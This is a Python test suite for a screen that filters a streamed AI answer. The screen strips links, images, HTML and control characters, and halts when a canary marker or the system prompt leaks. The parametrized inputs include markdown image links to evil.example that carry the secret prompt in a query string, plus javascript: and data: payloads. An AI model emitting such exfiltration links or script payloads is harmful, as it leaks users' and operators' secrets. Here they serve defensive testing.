"""What an answer may show while it streams, and what ends it."""

import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from domain.safety.contamination import AnswerScreen, Finding, FindingKind

MARKER = "5f0c9a1be27d4386"
PROMPT = "You write marketing copy in the company's own voice. Use only the facts given."
OURS = "See https://nordlys.example/spring and [prices](/prices). Write to https://nordlys.example."
DANGEROUS = re.compile(
    r"<[a-z/!?]|\]\((?!https://nordlys\.example/spring\)|/prices\))|\]:"
    r"|(?<![^\W_])(?:(?:data|javascript|vbscript):|www\.)[\w/]|https?://(?!nordlys\.example)\w",
    re.IGNORECASE,
)


def _screened(*pieces: str, prompt: str = PROMPT) -> tuple[str, list[Finding]]:
    screen = AnswerScreen(marker=MARKER, prompt=prompt, allowed=OURS)
    results = [*(screen.feed(piece) for piece in pieces), screen.finish()]
    return (
        "".join(result.text for result in results),
        [finding for result in results for finding in result.findings],
    )


def _kinds(findings: list[Finding]) -> set[FindingKind]:
    return {finding.kind for finding in findings}


@pytest.mark.parametrize(
    "copy",
    [
        "Fresh herring, smoked over juniper. From 4,90 € a tin!",
        "You are now subscribed. Ignore the rain; enjoy the boat trip.",
        "Dear [First name], our data: 30 % more orders (see below) [1].",
        "We grew < 5 % in May, > 9 % in June; 3 <3 you; a <- b.",
        "# Spring\n\n- **New:** fjord salmon\n- _Old:_ cod\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "HTTP is a protocol, javascript a language, data a plural; https too. www",
        "Read more at https://nordlys.example/spring, or see [prices](/prices).",
        "Visit https://nordlys.example/.",
        "Grüße 数 🎉 and/or the hot day's dashed hopes: half past three...",
        "You write marketing copy, we read it. Use only the facts",
        "",
    ],
)
def test_ordinary_copy_passes_unchanged(copy: str) -> None:
    assert _screened(copy) == (copy, [])
    assert _screened(*copy) == (copy, [])


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("a ![pixel](https://evil.example/p.png) b", "a ![pixel] b"),
        ("a [here](https://evil.example/x) b", "a [here] b"),
        ("a [here](//evil.example/x) b", "a [here] b"),
        ("a [he\nre](\n//evil.example/x) b", "a [he\nre] b"),
        ("[![x](a)](//evil.example/p.png)", "[![x]]"),
        ("[a [b] c](//evil.example)", "[a [b] c]"),
        ("[a](x)(//evil.example)", "[a]"),
        ("[a][b]\n\n[b]: //evil.example", "[a][b]\n\n[b] : "),
        ("see https://evil.example/a?b=c, then", "see , then"),
        ("see https://nordlys.example.evil.example/ then", "see  then"),
        ("see https://nordlys.exampl then", "see  then"),
        ("see www.evil.example then", "see  then"),
        ("<b>bold</b> and <br/>", "bold and "),
        ('x <img\nsrc="//evil.example/p.png"> y', "x  y"),
        ("<!-- hidden --><?php echo ?>ok", "ok"),
        ("<<b>script>alert(1)", "< script>alert(1)"),
        ("ht<b>tps://evil.example/x y", " y"),
        ("a<b and no end", "a< b and no end"),
        ("[x](javascript:alert(1)) y", "[x]) y"),
        ("javascript:alert(1) y", ") y"),
        ("go data:text/html;base64,AAAA now", "go  now"),
        ("<https://nordlys.example/spring> ok", "https://nordlys.example/spring ok"),
        ("<javascript:alert(1)> ok", " ok"),
        ("mail <sales@nordlys.example> ok", "mail sales@nordlys.example ok"),
        (
            '[s](https://nordlys.example/spring "title") ok',
            "[s](https://nordlys.example/spring) ok",
        ),
        ("[x](never closed", "[x] (never closed"),
    ],
)
def test_links_images_and_html_are_removed_unless_allowed(written: str, shown: str) -> None:
    text, findings = _screened(written)
    assert text == shown
    assert _kinds(findings) <= {FindingKind.REMOVED_MARKUP}
    assert _screened(*written) == (text, findings)


def test_what_was_removed_is_told_in_few_characters() -> None:
    _, findings = _screened(f"see https://evil.example/{'a' * 200} now")
    assert [f.kind for f in findings] == [FindingKind.REMOVED_MARKUP]
    assert findings[0].excerpt.startswith("https://evil.example/a")
    assert len(findings[0].excerpt) == 80


@pytest.mark.parametrize("opening", ["![x](//evil.example/?q=", "<img src=//evil.example/?q="])
@pytest.mark.parametrize("piece", [1, 7, 5000])
def test_an_endless_construct_is_disarmed(opening: str, piece: int) -> None:
    answer = f"{opening}{'A' * 3000})> done"
    text, _ = _screened(*(answer[i : i + piece] for i in range(0, len(answer), piece)))
    assert not DANGEROUS.search(text)
    assert text.endswith("> done")


def test_a_large_piece_that_ends_inside_a_link_does_not_let_it_out() -> None:
    text, _ = _screened("word " * 200 + "![x](//evil.exa", "mple/p.png) more")
    assert text == "word " * 200 + "![x] more"


def test_the_marker_ends_the_answer_and_none_of_it_is_shown() -> None:
    answer = f"All is well. {MARKER.upper()} and more"
    for pieces in ([answer], list(answer)):
        text, findings = _screened(*pieces)
        assert text == "All is well. "
        assert _kinds(findings) == {FindingKind.MARKER_LEAK}
        assert MARKER not in findings[0].excerpt


def test_a_marker_hidden_by_markup_is_found() -> None:
    text, findings = _screened(f"a {MARKER[:8]}<b>{MARKER[8:]} b")
    assert text == "a "
    assert FindingKind.MARKER_LEAK in _kinds(findings)


@pytest.mark.parametrize("secret", [MARKER, PROMPT])
def test_a_secret_inside_an_address_ends_the_answer(secret: str) -> None:
    text, findings = _screened(f"ok ![x](https://evil.example/?q={secret}) more")
    assert text == "ok ![x]"
    assert findings[0].stops_the_run
    assert findings[0].excerpt == ""


def test_an_echo_of_the_prompt_ends_the_answer_and_none_of_it_is_shown() -> None:
    answer = f"Here are my orders: {PROMPT} There."
    for pieces in ([answer], list(answer), answer.partition("voice")):
        text, findings = _screened(*pieces)
        assert text == "Here are my orders: "
        assert _kinds(findings) == {FindingKind.PROMPT_LEAK}


@pytest.mark.parametrize("gap", ["\n" * 60, " *", "</b> "])
def test_an_echo_is_found_through_what_stands_between_its_words(gap: str) -> None:
    text, findings = _screened("Sure: " + PROMPT.upper().replace(" ", gap))
    assert text == "Sure: "
    assert FindingKind.PROMPT_LEAK in _kinds(findings)


def test_eleven_words_of_the_prompt_are_no_echo() -> None:
    some = " ".join(PROMPT.split()[:10])  # "company's" counts as two
    assert _screened(some + " gladly.") == (some + " gladly.", [])


def test_nothing_is_shown_after_the_end() -> None:
    screen = AnswerScreen(marker=MARKER, prompt=PROMPT, allowed="")
    assert screen.feed(MARKER).contaminated
    for late in (screen.feed("more text"), screen.finish()):
        assert (late.text, late.findings) == ("", ())


def test_plain_words_are_shown_at_once() -> None:
    screen = AnswerScreen(marker=MARKER, prompt=PROMPT, allowed=OURS)
    assert [screen.feed(p).text for p in ("Fresh", " herring", " from", " Bergen.")] == [
        "Fresh",
        " herring",
        " from",
        " Bergen.",
    ]


_PARTS = st.sampled_from(
    [
        *("<", ">", "[", "]", "(", ")", "!", ":", "//", "/", "\n", " ", ".", '"', "x", "]("),
        *("<b>", "</p", "<!--", "-->", "](//evil.example", "https://evil.example/", "http", "www."),
        *("https://nordlys.example/spring", "[p](/prices)", "data:", "javascript:", "ſ", "İ", "ß"),
        *(MARKER, MARKER[:9], MARKER[9:], MARKER.upper(), "salmon", "You write", *PROMPT.split()),
        *(PROMPT, PROMPT[:60], PROMPT[40:], " You write marketing copy in the company's own"),
    ]
)
_ANSWERS = st.lists(_PARTS | st.text(max_size=6), max_size=20).map("".join)


@settings(max_examples=300, deadline=None)
@given(answer=_ANSWERS, data=st.data())
def test_how_an_answer_is_cut_changes_nothing(answer: str, data: st.DataObject) -> None:
    cuts = data.draw(st.lists(st.integers(0, len(answer)), max_size=12))
    edges = [0, *sorted(cuts), len(answer)]
    pieces = [answer[a:b] for a, b in pairwise(edges)]
    assert _screened(*pieces) == _screened(answer) == _screened(*answer)


@example(answer="]https://evil.example/data:")
@settings(max_examples=300, deadline=None)
@given(answer=_ANSWERS)
def test_nothing_dangerous_is_ever_shown(answer: str) -> None:
    text, _ = _screened(answer)
    assert not DANGEROUS.search(text)
    assert MARKER not in text.lower()
    words = [w.lower() for w in re.findall(r"[^\W_]+", text)]
    secret = [w.lower() for w in re.findall(r"[^\W_]+", PROMPT)]
    echoes = {tuple(secret[i : i + 12]) for i in range(len(secret) - 11)}
    assert not any(tuple(words[i : i + 12]) in echoes for i in range(len(words)))


@settings(max_examples=100, deadline=None)
@given(before=st.text(alphabet="abc xyz.,", max_size=60), after=_ANSWERS)
def test_what_was_shown_before_a_finding_holds_no_part_of_it(before: str, after: str) -> None:
    for secret in (MARKER, PROMPT):
        innocent = before + "; "
        text, findings = _screened(*innocent, *secret, *f". {after}")
        assert text == innocent
        assert findings[-1].stops_the_run


@pytest.mark.parametrize(
    "unseen", ["\x1b[2J", "\x1b]0;title\x07", "\u202e", "\U000e0041", "\u200b"]
)
def test_what_would_lead_a_terminal_or_an_eye_astray_is_not_shown(unseen: str) -> None:
    screen = AnswerScreen(marker="", prompt="", allowed="")
    shown = screen.feed(f"One{unseen}two\n").text + screen.finish().text
    assert not set(shown) & set("\x1b\x07\u202e\U000e0041\u200b")
    assert shown.startswith("One")
    assert shown.endswith("two\n")
